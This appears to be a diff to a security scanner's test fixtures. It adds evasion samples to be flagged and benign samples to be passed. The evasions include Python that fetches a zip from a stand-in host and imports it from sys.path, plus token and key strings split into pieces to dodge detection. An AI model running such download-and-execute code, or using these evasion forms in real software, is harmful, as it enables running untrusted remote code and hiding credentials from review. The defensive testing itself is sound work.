@@ -101,6 +101,16 @@ EVASIONS: dict[str, tuple[str, dict[str, str]]] = {
             "    spec.loader.exec_module(importlib.util.module_from_spec(spec))\n"
         },
     ),
+    "download-zip-on-sys-path": (
+        "download-and-execute",
+        {
+            PATH: "import sys, tempfile, os, urllib.request\n"
+            "def f():\n    z = os.path.join(tempfile.gettempdir(), 'ext.zip')\n"
+            "    with open(z, 'wb') as h:\n"
+            "        h.write(urllib.request.urlopen('https://x.example/ext.zip').read())\n"
+            "    sys.path.insert(0, z)\n    import ext  # noqa\n"
+        },
+    ),
     # Commands as argument lists.
     "spawnv-sh-c": (
         "download-and-execute",
@@ -264,6 +274,15 @@ EVASIONS: dict[str, tuple[str, dict[str, str]]] = {
             "    ctypes.CFUNCTYPE(ctypes.c_int)(addr)()\n"
         },
     ),
+    # Secrets written in pieces.
+    "secret-joined": (
+        "hardcoded-secret",
+        {PATH: "TOKEN = ''.join(['ghp_', 'R8xkq2LmN7vT', '4wZpY6bC1dF9', 'gH3jK5sA0eQi'])\n"},
+    ),
+    "secret-concatenated": (
+        "hardcoded-secret",
+        {PATH: "KEY_ID = 'AKIA' + 'Q3EGUMEN' + '5LXRWT7P'\n"},
+    ),
     # Destinations.
     "decimal-ip": (
         "suspicious-destination",
@@ -321,6 +340,15 @@ BENIGN: dict[str, dict[str, str]] = {
         PATH: "import string, tempfile\nfrom pathlib import Path\n"
         "T = string.Template('$base/report-$day.csv')\n"
         "def f(day):\n    Path(T.substitute(base=tempfile.gettempdir(), day=day)).write_text('a,b')\n"
+    },
+    "own-folder-on-sys-path": {
+        PATH: "import os, sys, requests\nsys.path.insert(0, os.path.dirname(__file__))\n"
+        "def f(dest):\n    with open(dest, 'wb') as h:\n"
+        "        h.write(requests.get('https://x.example/r.pdf').content)\n"
+    },
+    "url-in-pieces": {
+        PATH: "HOST = 'api.example.com'\nBASE = 'https://' + HOST + '/v1/'\n"
+        "PARTS = '/'.join(['users', 'me', 'settings'])\n"
     },
     "sh-c-literal": {
         PATH: "import subprocess\ndef f():\n    subprocess.run(['sh', '-c', 'make build && make test'])\n"
